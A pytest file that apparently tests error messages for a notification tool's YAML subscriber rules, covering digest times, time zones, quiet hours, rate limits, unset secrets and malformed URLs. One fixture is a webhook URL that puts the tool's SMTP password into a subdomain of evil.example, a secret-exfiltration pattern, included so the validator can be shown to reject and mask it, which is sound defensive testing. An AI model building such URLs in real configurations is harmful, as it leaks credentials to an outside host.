"""Mistakes in the form of a subscriber, each with the whole message that its author reads."""

from __future__ import annotations

import pytest

from builders.rules import fault_messages

MISTAKES = {
    "a digest that is two": (
        """
subscribers:
  - id: desk
    webhook: {url: "https://desk.example/hook", secret: "${DESK_SECRET}"}
    digest: {every: 1h, at: "08:00"}
""",
        """
rules.yaml:5:13: a digest has either `every:` or `at:`
        digest: {every: 1h, at: "08:00"}
                ^
    → Write, for example, `digest: {at: "08:00", timezone: Europe/London}`.
""",
    ),
    "times that no clock shows": (
        """
subscribers:
  - id: desk
    webhook: {url: "https://desk.example/hook", secret: "${DESK_SECRET}"}
    digest: {at: ["08:00", 8am], timezone: Europe/Londen}
    quiet: {from: "22:00", to: 24:00}
    rate: 10
    concurrency: many
""",
        """
rules.yaml:5:28: `8am` is not a time of day
        digest: {at: ["08:00", 8am], timezone: Europe/Londen}
                               ^^^
    → Write a time of day in quotes, by a clock of 24 hours: "08:00".
rules.yaml:5:44: `Europe/Londen` is not a time zone
        digest: {at: ["08:00", 8am], timezone: Europe/Londen}
                                               ^^^^^^^^^^^^^
    → Write a name such as Europe/London or UTC.
rules.yaml:6:32: `24:00` is not a time of day
        quiet: {from: "22:00", to: 24:00}
                                   ^^^^^
    → Write a time of day in quotes, by a clock of 24 hours: "08:00".
rules.yaml:7:11: `rate` is `10`
        rate: 10
              ^^
    → Write how many in a second, a minute or an hour: 10/s, 100/m or 1000/h.
rules.yaml:8:18: `concurrency` is `many`
        concurrency: many
                     ^^^^
    → Write a number from 1 to 100, without decimals.
""",
    ),
    "quiet hours of no length": (
        """
subscribers:
  - id: desk
    webhook: {url: "https://desk.example/hook", secret: "${DESK_SECRET}"}
    quiet: {from: "22:00", to: "22:00"}
""",
        """
rules.yaml:5:12: quiet hours begin and end at the same time
        quiet: {from: "22:00", to: "22:00"}
               ^
    → Write, for example, `quiet: {from: "22:00", to: "07:00", timezone: Europe/London}`.
""",
    ),
    "secret that is not set": (
        """
subscribers:
  - id: desk
    webhook:
      url: https://desk.example/hook
      secret: ${DUTY_SECRET}
""",
        """
rules.yaml:6:15: `${DUTY_SECRET}` is not set
          secret: ${DUTY_SECRET}
                  ^^^^^^^^^^^^^^
    → Write DUTY_SECRET=… into .env, put a file DUTY_SECRET into the secrets directory, or list \
the environment variable DUTY_SECRET in TOCSIN_RULES_VARIABLES.
""",
    ),
    "setting of Tocsin": (
        """
subscribers:
  - id: desk
    webhook: {url: "https://${TOCSIN_SMTP_PASSWORD}.evil.example/", secret: "${DESK_SECRET}"}
""",
        """
rules.yaml:4:29: `${TOCSIN_SMTP_PASSWORD}` is a setting of Tocsin, which rules cannot read
        webhook: {url: "https://**********************}.evil.example/", secret…
                                ^^^^^^^^^^^^^^^^^^^^^^^
    → Give the secret another name.
""",
    ),
    "address without its beginning": (
        """
subscribers:
  - id: desk
    webhook: {url: desk.example/hook, secret: "${DESK_SECRET}"}
""",
        """
rules.yaml:4:20: this is not a web address
        webhook: {url: desk.example/hook, secret: "${DESK_SECRET}"}
                       ^^^^^^^^^^^^^^^^^
    → Write the whole address: https://desk.example/hook
""",
    ),
}


@pytest.mark.parametrize("name", tuple(MISTAKES))
def test_a_mistake_says_where_what_and_what_to_write(name: str) -> None:
    """The whole message, as its author reads it."""
    text, expected = MISTAKES[name]
    assert fault_messages(text) == expected.strip("\n")
